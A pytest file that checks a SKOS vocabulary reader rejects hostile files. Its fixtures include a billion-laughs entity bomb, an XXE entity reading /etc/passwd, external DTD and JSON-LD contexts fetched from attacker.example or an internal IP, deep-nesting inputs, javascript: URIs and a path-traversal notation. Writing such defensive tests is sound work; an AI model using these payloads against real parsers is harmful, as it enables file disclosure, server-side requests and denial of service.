"""Vocabulary files that attack their reader: entities, remote contexts, depth, size."""

from pathlib import Path

import pytest

from objects.vocabularies.files import BadVocabulary
from objects.vocabularies.importing import read_files
from objects.vocabularies.skos import guards
from objects.vocabularies.skos.reading import read_skos

RDF = (
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
    'xmlns:skos="http://www.w3.org/2004/02/skos/core#">'
    '<skos:Concept rdf:about="https://x.example/a"><skos:prefLabel>{label}</skos:prefLabel>'
    "</skos:Concept></rdf:RDF>"
)
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))


def test_the_harmless_file_of_these_tests_is_read() -> None:
    file = read_skos(RDF.format(label="A").encode(), "xml", "words")
    assert file.concepts[0].labels == {"fr": "A"}


@pytest.mark.parametrize(
    "doctype",
    [
        f'<!DOCTYPE r [<!ENTITY l0 "ha">{LAUGHS}]>',
        '<!DOCTYPE r [<!ENTITY l8 SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>',
    ],
)
def test_entities_are_refused_before_they_grow_or_read_anything(doctype: str) -> None:
    with pytest.raises(BadVocabulary):
        read_skos((doctype + RDF.format(label="&l8;")).encode(), "xml", "words")


@pytest.mark.parametrize(
    "document",
    [
        '{"@context": "https://attacker.example/c.jsonld", "@id": "https://x.example/a"}',
        '{"@context": [{"a": "https://x.example/"}, "https://attacker.example/c"], "a": "b"}',
        '{"@context": {"a": {"@id": "https://x.example/", "@context": "http://10.0.0.1/c"}}}',
        '{"@context": {"@import": "https://attacker.example/c"}, "@id": "https://x.example/a"}',
    ],
)
def test_contexts_elsewhere_are_refused_not_fetched(document: str) -> None:
    with pytest.raises(BadVocabulary, match="context"):
        read_skos(document.encode(), "json-ld", "words")


@pytest.mark.parametrize(
    ("content", "form"),
    [
        (b"[" * 100_000 + b"]" * 100_000, "json-ld"),
        (b'{"a":' * 5_000 + b"1" + b"}" * 5_000, "json-ld"),
        (
            b"<https://x.example/a> <https://x.example/p> " + b"[ <https://x.example/p> " * 50_000,
            "turtle",
        ),
        (b"<a>" * 50_000, "xml"),
        (b"\xff\xfe\x00\x01" * 100, "turtle"),
        (b"\x00" * 1_000, "nt"),
    ],
)
def test_deep_and_broken_files_are_refused_with_a_sentence(content: bytes, form: str) -> None:
    with pytest.raises(BadVocabulary):
        read_skos(content, form, "words")


def test_files_that_are_too_large_are_not_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(guards, "MAX_BYTES", 1_000)
    with pytest.raises(BadVocabulary, match="at most"):
        read_skos(RDF.format(label="A" * 2_000).encode(), "xml", "words")


def test_endless_labels_synonyms_and_addresses_are_cut_or_left_out() -> None:
    many = " , ".join(f'"mot {n}"@fr' for n in range(1_000))
    turtle = (
        "@prefix skos: <http://www.w3.org/2004/02/skos/core#> .\n"
        f'<https://x.example/a> a skos:Concept ; skos:prefLabel "{"a" * 100_000}"@fr ; '
        f"skos:altLabel {many} .\n"
        f'<https://x.example/{"b" * 5_000}> a skos:Concept ; skos:prefLabel "B"@fr .\n'
        '<javascript:alert(1)> a skos:Concept ; skos:prefLabel "C"@fr .\n'
        '<https://x.example/d> a skos:Concept ; skos:notation "../../admin" ; '
        'skos:prefLabel "D"@fr ; skos:broader <javascript:alert(1)> .\n'
    )
    first, last = read_skos(turtle.encode(), "turtle", "words").concepts
    assert {first.uri, last.uri} == {"https://x.example/a", "https://x.example/d"}
    found = {concept.uri: concept for concept in (first, last)}
    assert len(found["https://x.example/a"].labels["fr"]) == 300
    assert len(found["https://x.example/a"].synonyms["fr"]) == 200
    assert "/" not in found["https://x.example/d"].notation
    assert found["https://x.example/d"].broader == ""


def test_a_list_that_runs_in_a_circle_ends() -> None:
    turtle = (
        "@prefix skos: <http://www.w3.org/2004/02/skos/core#> .\n"
        "@prefix rdf: <http://www.w3.org/1999/02/22-rdf-syntax-ns#> .\n"
        '<https://x.example/a> a skos:Concept ; skos:prefLabel "A"@fr .\n'
        "<https://x.example/o> a skos:OrderedCollection ; skos:memberList _:l .\n"
        "_:l rdf:first <https://x.example/a> ; rdf:rest _:l .\n"
    )
    assert len(read_skos(turtle.encode(), "turtle", "words").concepts) == 1


@pytest.mark.parametrize(
    "content", [b"", b"one column\n1\n", b"\x00\x01;\x02\n", b'a;b\n"' + b"x" * 300_000]
)
def test_tables_that_are_none_are_refused_with_a_sentence(content: bytes, tmp_path: Path) -> None:
    with pytest.raises(BadVocabulary):
        read_files([("table.csv", content)])
